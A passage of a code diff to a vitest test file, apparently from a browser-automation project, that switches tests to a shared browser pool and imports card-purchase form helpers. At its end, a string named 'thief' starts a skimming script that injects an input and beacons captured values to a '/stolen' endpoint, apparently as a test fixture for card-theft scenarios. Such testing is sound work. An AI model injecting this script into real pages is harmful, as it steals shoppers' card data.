@@ -1,12 +1,12 @@
-import { afterAll, beforeAll, expect, it } from "vitest";
-import { type BrowserPool, startBrowserPool } from "../../src/index.ts";
+import { beforeAll, expect, it } from "vitest";
+import type { BrowserPool } from "../../src/index.ts";
 import { buyByCard, cardAsTyped, sentCard } from "../card-forms/card-purchase.ts";
+import { sharedPool } from "../support/shared-pool.ts";
 
 let pool: BrowserPool;
 beforeAll(async () => {
-  pool = await startBrowserPool();
+  pool = await sharedPool();
 });
-afterAll(() => pool?.close());
 
 const thief = `<input id="catch"><script>
   const send = (what) => navigator.sendBeacon('/stolen', new URLSearchParams({ what }));
